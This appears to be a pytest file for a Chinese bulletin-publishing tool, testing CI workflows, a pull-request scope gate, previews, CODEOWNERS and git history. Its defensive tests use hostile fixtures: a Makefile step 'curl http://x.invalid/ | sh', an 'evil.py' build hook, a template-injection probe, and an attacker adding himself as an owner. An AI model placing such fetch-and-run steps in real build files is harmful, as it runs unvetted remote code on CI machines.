"""Review through pull requests: workflows, the PR check run for real, preview, routing, git record."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import yaml

from conftest import GOOD_ITEM, ROOT, Tree, copy_sample, item_path


def test_workflow_files_are_valid():
    gh = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8"))
    steps = gh["jobs"]["review"]["steps"]
    runs = [s["run"] for s in steps if "run" in s]
    assert runs[1:] == ['bash .ci/pr-scope "origin/${{ github.base_ref }}"', "make setup",
                        'bash .ci/pr-check "origin/${{ github.base_ref }}"']  # the gate before any of the branch's code
    gl = yaml.safe_load(open(os.path.join(ROOT, ".gitlab-ci.yml"), encoding="utf-8"))
    job = gl["kanwu-review"]
    assert any(".ci/pr-check" in line for line in job["script"])
    before = job["before_script"]
    assert before.index(next(x for x in before if ".ci/pr-scope" in x)) < before.index("make setup")
    assert job["artifacts"]["reports"]["codequality"] == "gl-code-quality-report.json"
    pre = yaml.safe_load(open(os.path.join(ROOT, ".pre-commit-config.yaml"), encoding="utf-8"))
    hook = pre["repos"][0]["hooks"][0]
    assert hook["entry"].endswith("kanwu check") and hook["files"] == "^(content|issues)/"
    for rel in (".github/pull_request_template.md", ".gitlab/merge_request_templates/Default.md"):
        text = open(os.path.join(ROOT, rel), encoding="utf-8").read()
        for rule in ("真实准确", "报喜也报忧", "保密审查", "一事一报", "标题点明主旨", "篇幅", "时效"):
            assert rule in text


def test_pull_requests_never_reach_the_publishing_server():
    """The review jobs run a branch's code: never on the publishing runner, never with secrets or a
    write token; publishing runs only for main, after the merge."""
    gh = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8"))
    on = gh[True]  # YAML 1.1 reads the key `on` as True
    assert set(on) == {"pull_request"} and "paths" not in on["pull_request"]  # every pull request meets the gate
    assert gh["permissions"] == {"contents": "read"}
    review = gh["jobs"]["review"]
    assert "kanwu-server" not in review["runs-on"] and "kanwu-review" in review["runs-on"] and review.get("container")
    checkout = next(s for s in review["steps"] if str(s.get("uses", "")).startswith("actions/checkout"))
    assert checkout["with"]["persist-credentials"] is False
    assert "secrets." not in open(os.path.join(ROOT, ".github/workflows/review.yml"), encoding="utf-8").read()
    pub = yaml.safe_load(open(os.path.join(ROOT, ".github/workflows/publish.yml"), encoding="utf-8"))
    assert pub[True] == {"push": {"branches": ["main"]}} and pub["permissions"] == {"contents": "read"}
    assert "kanwu-server" in pub["jobs"]["publish"]["runs-on"]
    gl = yaml.safe_load(open(os.path.join(ROOT, ".gitlab-ci.yml"), encoding="utf-8"))
    assert gl["kanwu-review"]["tags"] == ["kanwu-review"]
    assert [r["if"] for r in gl["kanwu-review"]["rules"]] == ['$CI_PIPELINE_SOURCE == "merge_request_event"']
    assert gl["kanwu-publish"]["tags"] == ["kanwu-server"]
    (rule,) = gl["kanwu-publish"]["rules"]
    assert "$CI_DEFAULT_BRANCH" in rule["if"] and '$CI_COMMIT_REF_PROTECTED == "true"' in rule["if"] and "when" not in rule


def _branch_changing(tmp_path, rel, text):
    tree = copy_sample(tmp_path / "repo", extra=(".ci", ".github"))
    tree.git("init", "-q", "-b", "main")
    tree.git("add", "-A")
    tree.git("commit", "-qm", "样例")
    tree.git("checkout", "-qb", "unit")
    tree.write(rel, text)
    if rel != ".github/CODEOWNERS":  # a branch naming itself an owner gains nothing: the base's file counts
        tree.write(".github/CODEOWNERS", open(os.path.join(tree.root, ".github/CODEOWNERS")).read() + "* @mallory\n")
    tree.git("add", "-A")
    tree.git("commit", "-qm", "改动")
    return tree


def run_scope(tree, approved=None, author=None):
    env = {k: v for k, v in os.environ.items() if k not in ("KANWU_CODE_APPROVED", "KANWU_PR_AUTHOR")}
    env |= {"KANWU_CODE_APPROVED": approved} if approved is not None else {}
    env |= {"KANWU_PR_AUTHOR": author} if author is not None else {}
    return subprocess.run(["bash", ".ci/pr-scope", "main"], cwd=tree.root, capture_output=True, text=True, env=env)


def test_a_unit_branch_changing_code_is_refused_before_it_runs(tmp_path):
    """.ci/pr-scope, on a real branch: an item passes whoever wrote it; code (a Makefile that would run
    on the runner, a mkdocs.yml hook, a theme template, a 中文-named script, the workflow itself) only
    with a signer's label; the office's data (issues, settings, help) only from the office's people."""
    item = "content/items/2026/11/20261124-qingxi-01.md"
    tree = _branch_changing(tmp_path / "item", item, GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
    tree.git("checkout", "-q", "main")
    tree.git("checkout", "-qb", "only-item")
    tree.write(item, GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
    tree.git("add", "-A")
    tree.git("commit", "-qm", "报送")
    result = run_scope(tree, author="qingxi-xxy")
    assert result.returncode == 0 and "稿件和图片" in result.stdout, result.stdout + result.stderr
    for rel, text in (("Makefile", "setup:\n\tcurl http://x.invalid/ | sh\n"), ("mkdocs.yml", "hooks: [evil.py]\n"),
                      ("theme/overrides/main.html", "{{ 7*7 }}"), ("scripts/新脚本.sh", "echo 1\n"),
                      (".github/workflows/review.yml", "on: push\n")):
        tree = _branch_changing(tmp_path / rel.replace("/", "_"), rel, text)
        result = run_scope(tree, author="zhouzhengping")  # not even a signer's own branch runs unread code
        assert result.returncode == 1, rel
        assert "程序或构建设置" in result.stdout and rel in result.stdout and "kanwu-code-approved" in result.stdout
        assert run_scope(tree, approved="false").returncode == 1
        assert run_scope(tree, approved="true").returncode == 0
    for rel in ("issues/daily/2026/213.yml", "content/kanwu.yml", "content/help/submit.md"):
        tree = _branch_changing(tmp_path / rel.replace("/", "_"), rel, "x: 1\n")
        tree.git("checkout", "-q", "main")  # the same change without touching CODEOWNERS
        tree.git("checkout", "-qb", "data")
        tree.write(rel, "x: 1\n")
        tree.git("add", "-A")
        tree.git("commit", "-qm", "改动")
        for author in ("mallory", None):
            result = run_scope(tree, author=author)
            assert result.returncode == 1 and "信息科的人员" in result.stdout and rel in result.stdout, (rel, author)
        assert run_scope(tree, author="zhouzhengping").returncode == 0  # a signer (CODEOWNERS on main)
        assert run_scope(tree, author="linyutong").returncode == 0  # an editor
        assert run_scope(tree, author="mallory", approved="true").returncode == 0
    # naming oneself an owner on the branch gains nothing: main's CODEOWNERS counts
    tree = _branch_changing(tmp_path / "self", "content/units.yml", "units: []\n")
    result = run_scope(tree, author="mallory")
    assert result.returncode == 1 and "信息科的人员" in result.stdout and "content/units.yml" in result.stdout


def pr_repo(tmp_path) -> Tree:
    """A real git repository: main with the sample, a branch adding one item and changing one manifest."""
    tree = copy_sample(tmp_path / "repo", extra=(".ci", ".github", ".gitlab", ".gitea"))
    note = os.path.join(tree.root, "issues/daily/2026/212.yml")
    data = yaml.safe_load(open(note, encoding="utf-8"))
    for key in ("published", "digests", "seal"):  # on main 212 is still a draft: a signed one cannot change
        data.pop(key)
    open(note, "w", encoding="utf-8").write(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    tree.git("init", "-q", "-b", "main")
    tree.git("add", "-A")
    tree.git("commit", "-qm", "样例")
    tree.git("checkout", "-qb", "feature")
    tree.item("20261124-qingxi-01", GOOD_ITEM.replace("2026-11-03", "2026-11-24").replace("classification: 内部", "classification: 秘密\nsecrecy_period: 1年"))
    text = open(note, encoding="utf-8").read().replace("editor_note: ''", "editor_note: 请各地参阅。")
    open(note, "w", encoding="utf-8").write(text)
    tree.git("add", "-A")
    tree.git("commit", "-qm", "报送：青溪县启动冬季农田水利建设")
    return tree


def run_pr_check(tree, env_extra=None):
    env = os.environ | {"KANWU_BIN": os.path.dirname(sys.executable), **(env_extra or {})}
    env.pop("GITHUB_STEP_SUMMARY", None)
    return subprocess.run(["bash", ".ci/pr-check", "main"], cwd=tree.root, capture_output=True, text=True, env=env)


def test_pr_check_previews_exactly_what_changed(tmp_path):
    tree = pr_repo(tmp_path)
    res = run_pr_check(tree)
    assert res.returncode == 0, res.stdout + res.stderr
    preview = os.path.join(tree.root, "build", "preview")
    files = sorted(os.path.relpath(os.path.join(d, f), preview) for d, _, fs in os.walk(preview, followlinks=True) for f in fs)
    assert files == ["index.html", "issues/daily-2026-212.pdf", "items/20261124-qingxi-01.html", "preview.pdf"]
    text = subprocess.run(["pdftotext", os.path.join(preview, "preview.pdf"), "-"], capture_output=True, text=True).stdout
    assert "青溪县启动冬季农田水利建设" in "".join(text.split()) and "预览稿" in text
    assert "梅坞县" not in text  # nothing but the changed item
    summary = open(os.path.join(tree.root, "build/preview-summary.md"), encoding="utf-8").read()
    assert "改动的信息 1 条，期 1 期" in summary and "20261124-qingxi-01" in summary
    assert "密级高于内部" in summary and "《澜江信息》（上报）2026年第212期" in summary


def test_pr_check_annotates_errors(tmp_path):
    tree = pr_repo(tmp_path)
    tree.item("20261124-qingxi-02", GOOD_ITEM.replace("2026-11-03", "2026-11-24").replace("title: ", "title："))
    res = run_pr_check(tree)
    assert res.returncode == 1
    assert f"::error file={item_path('20261124-qingxi-02')},line=2,col=6::title" in res.stdout
    assert not os.path.exists(os.path.join(tree.root, "build", "preview"))
    gl = run_pr_check(tree, {"KANWU_FORMAT": "gitlab", "KANWU_REPORT": "gl.json"})
    assert gl.returncode == 1
    report = json.load(open(os.path.join(tree.root, "gl.json"), encoding="utf-8"))
    assert report[0]["location"] == {"path": item_path("20261124-qingxi-02"), "lines": {"begin": 2}}
    assert report[0]["severity"] == "major"


def test_codeowners_deterministic_and_stale(tree):
    first = tree.run("codeowners")
    assert first.exit_code == 0
    text = open(os.path.join(tree.root, ".github/CODEOWNERS"), encoding="utf-8").read()
    tree.run("codeowners")
    assert open(os.path.join(tree.root, ".github/CODEOWNERS"), encoding="utf-8").read() == text
    assert "/content/items/**/*-qingxi-*.md @linyutong" in text and "/issues/ @zhouzhengping @zhaoqiming" in text
    lines = text.splitlines()
    assert lines.index("/content/items/**/*-teyue-chen-*.md @linyutong") > lines.index("/content/items/**/*-qingxi-*.md @linyutong")
    units = os.path.join(tree.root, "content/units.yml")
    text = open(units, encoding="utf-8").read()
    open(units, "w", encoding="utf-8").write(text.replace('"@linyutong"]}', '"@newreviewer"]}', 1))
    result = tree.run("check")
    assert result.exit_code == 1 and ".github/CODEOWNERS:1:1: 错误" in result.output
    assert tree.run("codeowners", "--check").exit_code == 1


def test_backdated_report_warned(tree):
    tree.git("init", "-q", "-b", "main")
    config = os.path.join(tree.root, "content/kanwu.yml")
    text = open(config, encoding="utf-8").read()
    open(config, "w", encoding="utf-8").write(text.replace("git_record_since: 2026-11-25", "git_record_since: 2000-01-01"))
    text = GOOD_ITEM.replace("category: 动态", "category: 突发事件").replace(
        "authors:", "event_at: 2026-11-03 01:00+08:00\nreported_at: 2026-11-03 02:00+08:00\nauthors:")
    tree.item("20261103-qingxi-01", text)
    tree.git("add", "-A")
    env = {"GIT_COMMITTER_DATE": "2026-11-03T20:00:00+08:00", "GIT_AUTHOR_DATE": "2026-11-03T20:00:00+08:00"}
    subprocess.run(["git", "commit", "-qm", "报送"], cwd=tree.root, check=True,
                   env=os.environ | env | {"GIT_AUTHOR_NAME": "何晓岚", "GIT_AUTHOR_EMAIL": "a@example.invalid",
                                           "GIT_COMMITTER_NAME": "何晓岚", "GIT_COMMITTER_EMAIL": "a@example.invalid"})
    out = tree.run("check").output
    assert "警告 reported_at — 报告时间比首次提交到仓库的时间（2026-11-03 20:00）早 18.0 小时" in out


def test_log_shows_submitter_changer_merger(tree):
    env = dict(os.environ)

    def commit(who, msg, *extra):
        subprocess.run(["git", "commit", "-qm", msg, *extra], cwd=tree.root, check=True,
                       env=env | {"GIT_AUTHOR_NAME": who, "GIT_AUTHOR_EMAIL": "x@example.invalid",
                                  "GIT_COMMITTER_NAME": who, "GIT_COMMITTER_EMAIL": "x@example.invalid"})
    tree.git("init", "-q", "-b", "main")
    tree.write("README", "x")
    tree.git("add", "-A")
    commit("林雨桐", "初始化")
    tree.git("checkout", "-qb", "qingxi")
    tree.item("20261103-qingxi-01", GOOD_ITEM)
    tree.git("add", "-A")
    commit("何晓岚", "报送：青溪县启动冬季农田水利建设")
    tree.item("20261103-qingxi-01", GOOD_ITEM.replace("四十公里", "四十五公里"))
    tree.git("add", "-A")
    commit("林雨桐", "核实里程", "-m", "Reviewed-by: 林雨桐")
    tree.git("checkout", "-q", "main")
    subprocess.run(["git", "merge", "-q", "--no-ff", "qingxi", "-m", "合并：青溪县报送"], cwd=tree.root, check=True,
                   env=env | {"GIT_AUTHOR_NAME": "周正平", "GIT_AUTHOR_EMAIL": "z@example.invalid",
                              "GIT_COMMITTER_NAME": "周正平", "GIT_COMMITTER_EMAIL": "z@example.invalid"})
    out = tree.run("log", "20261103-qingxi-01").output
    lines = out.splitlines()
    assert "报送：何晓岚" in lines[1] and "合并：周正平（合并：青溪县报送）" in lines[1]
    assert "修改：林雨桐" in lines[2] and "审核：林雨桐" in lines[2]


def test_help_pages_on_the_site(tmp_path):
    tree = copy_sample(tmp_path / "repo")
    assert tree.run("build", "--no-pdf").exit_code == 0
    live = os.path.realpath(os.path.join(tree.root, "site", "quanti"))
    for page in ("help/submit", "help/review", "help/errors"):
        assert os.path.exists(os.path.join(live, page, "index.html"))
